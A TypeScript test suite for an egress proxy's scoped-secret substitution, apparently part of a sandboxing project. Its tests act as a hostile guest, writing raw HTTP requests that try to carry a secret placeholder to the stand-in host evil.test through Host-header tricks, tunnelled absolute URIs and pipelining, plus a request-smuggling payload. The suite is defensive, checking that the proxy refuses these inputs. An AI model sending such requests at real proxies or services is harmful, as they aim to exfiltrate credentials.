import assert from "node:assert/strict";
import { spawn, type ChildProcess } from "node:child_process";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer as createHttpServer, type IncomingMessage, type Server as HttpServer, type ServerResponse } from "node:http";
import { createServer as createHttpsServer, type Server as HttpsServer } from "node:https";
import { connect, createServer, type Server as NetServer, type Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gunzipSync, gzipSync } from "node:zlib";
import { after, before, describe, it } from "node:test";
import { LeafCertificates, mintCertificateAuthority } from "../src/network/egress-ca.js";
import { egressNetwork } from "../src/network/egress-launch.js";
import type { ScopedSecretRule } from "../src/network/secret-substitution.js";
import { httpsThroughProxy as proxiedHttps } from "./helpers/proxy-client.js";

/**
 * A hostile guest and a hostile (or merely echoing) upstream against the egress proxy's scoped
 * secrets: real proxy processes, loopback servers, no VM.
 */
const SERVER = join(import.meta.dirname, "..", "src", "network", "egress-server.js");
const VALUE = "sk-live-0123456789abcdef-REAL";
const PLACEHOLDER = `pyro-secret-${"ef".repeat(20)}`;

interface Received {
  url: string;
  headers: IncomingMessage["headers"];
  body: string;
}

/** Records each request, then answers through `answer`. */
function recording(received: Received[], answer: (req: IncomingMessage, r: Received, res: ServerResponse) => void) {
  return (req: IncomingMessage, res: ServerResponse) => {
    const parts: Buffer[] = [];
    req.on("data", (d: Buffer) => parts.push(d));
    req.on("end", () => {
      const r = { url: req.url ?? "", headers: req.headers, body: Buffer.concat(parts).toString("latin1") };
      received.push(r);
      answer(req, r, res);
    });
  };
}

/** An API that reflects the credential it got: in its reason phrase, a header name, and a body gzipped when the client accepts it. */
function reflect(req: IncomingMessage, r: Received, res: ServerResponse): void {
  const auth = String(r.headers.authorization ?? "none");
  const token = auth.replace(/^Bearer /, "");
  const body = Buffer.from(`you sent ${auth}\n`);
  const gzip = /gzip/.test(String(req.headers["accept-encoding"] ?? ""));
  res.writeHead(200, `OK ${auth}`, { [`x-echo-${token}`]: "1", ...(gzip ? { "content-encoding": "gzip" } : {}) });
  res.end(gzip ? gzipSync(body) : body);
}

describe("egress proxy with scoped secrets under attack (real processes, loopback servers)", () => {
  let dir: string;
  let tlsUpstream: HttpsServer;
  let tlsPort: number;
  let plainUpstream: HttpServer;
  let plainPort: number;
  const received: Received[] = [];
  let caPem: string;
  let upstreamCaPath: string;
  const proxies: ChildProcess[] = [];
  const lifelines: NetServer[] = [];

  /** Starts an egress server with the shared secrets, policy and CA plus `extra` arguments; its socket path. */
  async function startProxy(name: string, extra: string[] = [], trustTestUpstream = true): Promise<{ socket: string; log: () => string }> {
    const lifelinePath = join(dir, `${name}-life.sock`);
    const lifelineServer = createServer((s: Socket) => s.on("error", () => undefined));
    lifelines.push(lifelineServer);
    await new Promise<void>((r) => lifelineServer.listen(lifelinePath, () => r()));
    const socket = join(dir, `${name}.sock`);
    const proxy = spawn(
      process.execPath,
      [
        SERVER,
        `--policy=${join(dir, "policy.json")}`,
        `--count-dir=${join(dir, "counts")}`,
        `--listen=${socket}`,
        `--lifeline=${lifelinePath}`,
        `--secrets=${join(dir, "secrets.json")}`,
        `--audit=${join(dir, `${name}-audit.json`)}`,
        `--tls-ca=${join(dir, "ca.pem")}`,
        `--tls-ca-key=${join(dir, "ca-key.pem")}`,
        "--test-resolve=api.test=127.0.0.1,evil.test=127.0.0.1",
        ...(trustTestUpstream ? [`--test-upstream-ca=${upstreamCaPath}`] : []),
        ...extra,
      ],
      { stdio: ["ignore", "pipe", "pipe"] },
    );
    proxies.push(proxy);
    let log = "";
    proxy.stderr!.on("data", (d: Buffer) => (log += d.toString()));
    await new Promise<void>((resolve, reject) => {
      proxy.stdout!.once("data", (d: Buffer) => (d.toString() === "ready\n" ? resolve() : reject(new Error(d.toString()))));
      proxy.once("exit", (code) => reject(new Error(`egress server exited with ${code}: ${log}`)));
    });
    return { socket, log: () => log };
  }

  before(async () => {
    dir = await mkdtemp(join(tmpdir(), "pyro-secret-attack-"));
    const upstreamCa = await mintCertificateAuthority("test-upstream");
    upstreamCaPath = join(dir, "upstream-ca.pem");
    await writeFile(upstreamCaPath, upstreamCa.certPem);
    const leaves = await LeafCertificates.load(upstreamCa);
    tlsUpstream = createHttpsServer(
      { SNICallback: (n, done) => void leaves.contextFor(n || "127.0.0.1").then((c) => done(null, c), done) },
      recording(received, reflect),
    );
    plainUpstream = createHttpServer(recording(received, (_req, _r, res) => res.end("ok\n")));
    await new Promise<void>((r) => tlsUpstream.listen(0, "127.0.0.1", () => r()));
    await new Promise<void>((r) => plainUpstream.listen(0, "127.0.0.1", () => r()));
    tlsPort = (tlsUpstream.address() as { port: number }).port;
    plainPort = (plainUpstream.address() as { port: number }).port;
    const rules: ScopedSecretRule[] = [{ name: "API_KEY", placeholder: PLACEHOLDER, value: VALUE, hosts: ["api.test"] }];
    await writeFile(join(dir, "secrets.json"), JSON.stringify(rules));
    await writeFile(join(dir, "policy.json"), JSON.stringify({ allow: ["127.0.0.1"] }));
    const ca = await mintCertificateAuthority("ws-attack");
    caPem = ca.certPem;
    await writeFile(join(dir, "ca.pem"), ca.certPem);
    await writeFile(join(dir, "ca-key.pem"), ca.keyPem);
  });

  after(async () => {
    for (const p of proxies) p.kill("SIGKILL");
    for (const l of lifelines) l.close();
    for (const s of [tlsUpstream, plainUpstream]) {
      s.closeAllConnections();
      s.close();
    }
    await rm(dir, { recursive: true, force: true });
  });

  /** Writes `request` to the proxy as is; the whole answer (latin1). */
  function plainThroughProxy(socket: string, request: string): Promise<string> {
    return new Promise((resolve) => {
      const s = connect(socket);
      let out = "";
      s.on("error", () => undefined);
      s.on("data", (d: Buffer) => (out += d.toString("latin1")));
      s.on("close", () => resolve(out));
      s.write(request);
    });
  }

  /** CONNECT `host` through the proxy, TLS trusting the workspace CA, then `request` raw; the whole answer as bytes. */
  const httpsThroughProxy = (socket: string, host: string, request: string, port = tlsPort) => proxiedHttps({ socket, host, port, ca: caPem, request });

  /** The body of a single non-chunked or chunked HTTP/1.1 response, de-chunked. */
  function responseBody(answer: Buffer): Buffer {
    const split = answer.indexOf("\r\n\r\n");
    const head = answer.subarray(0, split).toString("latin1");
    let rest = answer.subarray(split + 4);
    if (!/transfer-encoding: chunked/i.test(head)) return rest;
    const parts: Buffer[] = [];
    for (;;) {
      const eol = rest.indexOf("\r\n");
      const size = parseInt(rest.subarray(0, eol).toString("latin1"), 16);
      if (!size) break;
      parts.push(rest.subarray(eol + 2, eol + 2 + size));
      rest = rest.subarray(eol + 2 + size + 2);
    }
    return Buffer.concat(parts);
  }

  it("never writes a value into a cleartext (http://) request, even to the secret's own host, unless the workspace opts in", async () => {
    const proxy = await startProxy("default");
    const before = received.length;
    const out = await plainThroughProxy(
      proxy.socket,
      `GET http://api.test:${plainPort}/v1 HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
    );
    assert.equal(received.length, before, `nothing went out in cleartext (the upstream got: ${JSON.stringify(received.at(-1)?.headers.authorization)})`);
    assert.match(out, /^HTTP\/1\.1 403 [\s\S]*secret API_KEY[\s\S]*only over TLS[\s\S]*https:\/\/api\.test/);
    assert.ok(!out.includes(VALUE));
    assert.match(proxy.log(), /refused: .*API_KEY/);

    const optedIn = await startProxy("cleartext", ["--secrets-over-http"]);
    const answer = await plainThroughProxy(
      optedIn.socket,
      `GET http://api.test:${plainPort}/v2 HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
    );
    assert.equal(received.at(-1)?.headers.authorization, `Bearer ${VALUE}`, "with the opt-in, plain http to the secret's host is substituted");
    assert.match(answer, /^HTTP\/1\.1 200/);
    // The opt-in widens transport, never scope.
    const elsewhere = await plainThroughProxy(
      optedIn.socket,
      `GET http://evil.test:${plainPort}/x HTTP/1.1\r\nHost: api.test\r\nX-K: ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
    );
    assert.match(elsewhere, /^HTTP\/1\.1 403 [\s\S]*not to evil\.test/);
  });

  it("does not hand the value back in an upstream's reason phrase, header names or gzipped body", async () => {
    const proxy = await startProxy("reflect");
    const answer = await httpsThroughProxy(
      proxy.socket,
      "api.test",
      `GET /echo HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n`,
    );
    assert.equal(received.at(-1)?.headers.authorization, `Bearer ${VALUE}`, "the request itself was substituted");
    const head = answer.subarray(0, answer.indexOf("\r\n\r\n")).toString("latin1");
    assert.match(head, /^HTTP\/1\.1 200/);
    assert.ok(!head.includes(VALUE), `no value in the response head: ${head}`);
    const body = responseBody(answer);
    const text = /content-encoding: gzip/i.test(head) ? gunzipSync(body).toString("latin1") : body.toString("latin1");
    assert.ok(!text.includes(VALUE), `no value in the (decoded) body: ${text}`);
    assert.ok(text.includes(PLACEHOLDER), "the echo comes back with the placeholder");
  });

  it("sends a value only to an upstream whose certificate the host trusts for the secret's host name", async () => {
    const before = received.length;
    // An upstream certified by a CA the host does not trust (a MITM on the path, a hijacked address).
    const untrusting = await startProxy("untrusted-upstream", [], false);
    const unknownCa = await httpsThroughProxy(
      untrusting.socket,
      "api.test",
      `GET /u HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
    );
    assert.match(unknownCa.toString("latin1"), /^HTTP\/1\.1 502 /);
    // A trusted CA, but a certificate for another name.
    const otherCa = await mintCertificateAuthority("test-upstream-other");
    const otherLeaves = await LeafCertificates.load(otherCa);
    const wrongName = createHttpsServer(
      { SNICallback: (_n, done) => void otherLeaves.contextFor("other.test").then((c) => done(null, c), done) },
      recording(received, reflect),
    );
    await new Promise<void>((r) => wrongName.listen(0, "127.0.0.1", () => r()));
    try {
      await writeFile(join(dir, "other-ca.pem"), otherCa.certPem);
      const trusting = await startProxy("wrong-name", [`--test-upstream-ca=${join(dir, "other-ca.pem")}`], false);
      const port = (wrongName.address() as { port: number }).port;
      const mismatch = await httpsThroughProxy(
        trusting.socket,
        "api.test",
        `GET /w HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
        port,
      );
      assert.match(mismatch.toString("latin1"), /^HTTP\/1\.1 502 [\s\S]*(altnames|certificate)/);
    } finally {
      wrongName.closeAllConnections();
      wrongName.close();
    }
    assert.equal(received.length, before, "no upstream got a request (and so no value)");
  });

  it("starts the proxy with values over plain http only for a workspace that opted in", async () => {
    const files = { secretsPath: join(dir, "s.json"), auditPath: join(dir, "a.json"), caCertPath: join(dir, "c.pem"), caKeyPath: join(dir, "k.pem") };
    const launch = (secretsOverHttp: boolean) =>
      egressNetwork(join(dir, "launch-policy.json"), { allow: [] }, dir, {}, { ...files, ...(secretsOverHttp ? { secretsOverHttp } : {}) });
    assert.ok(!(await launch(false)).egressServer.includes("--secrets-over-http"));
    assert.ok((await launch(true)).egressServer.includes("--secrets-over-http"));
  });

  it("routes by the CONNECT target and the absolute URI, never by a Host header or an absolute URI inside a tunnel", async () => {
    const proxy = await startProxy("routing");
    const before = received.length;
    // An in-scope tunnel whose inner request names another host: it goes to the tunnel's host (api.test, with its Host).
    await httpsThroughProxy(
      proxy.socket,
      "api.test",
      `GET /a HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
    );
    assert.equal(received.at(-1)?.headers.host, `api.test:${tlsPort}`);
    // An absolute-form request inside the tunnel is refused, not re-routed.
    const inner = await httpsThroughProxy(
      proxy.socket,
      "api.test",
      `GET https://evil.test:${tlsPort}/b HTTP/1.1\r\nHost: evil.test\r\nX-K: ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
    );
    assert.match(inner.toString("latin1"), /^HTTP\/1\.1 400 [\s\S]*origin form/);
    // An out-of-scope tunnel whose Host header names the secret's host: refused (scope follows the CONNECT target).
    const outOfScope = await httpsThroughProxy(
      proxy.socket,
      "evil.test",
      `GET /c HTTP/1.1\r\nHost: api.test\r\nX-K: ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
    );
    assert.match(outOfScope.toString("latin1"), /^HTTP\/1\.1 403 [\s\S]*not to evil\.test/);
    // A pipelined second request in an in-scope tunnel still goes to the tunnel's host, never elsewhere.
    const piped = await httpsThroughProxy(
      proxy.socket,
      "api.test",
      `GET /d HTTP/1.1\r\nHost: api.test\r\n\r\nGET /e HTTP/1.1\r\nHost: evil.test\r\nX-K: ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`,
    );
    assert.equal((piped.toString("latin1").match(/HTTP\/1\.1 200/g) ?? []).length, 2);
    assert.deepEqual(
      received.slice(before).map((r) => [r.url, r.headers.host]),
      [
        ["/a", `api.test:${tlsPort}`],
        ["/d", `api.test:${tlsPort}`],
        ["/e", `api.test:${tlsPort}`],
      ],
    );
    // Content-Length with Transfer-Encoding (a smuggling shape) is refused by the parser, forwarding nothing.
    const count = received.length;
    const smuggle = await httpsThroughProxy(
      proxy.socket,
      "api.test",
      `POST /f HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /g HTTP/1.1\r\nHost: api.test\r\n\r\n`,
    );
    assert.match(smuggle.toString("latin1"), /^HTTP\/1\.1 400/);
    assert.equal(received.length, count);
  });
});
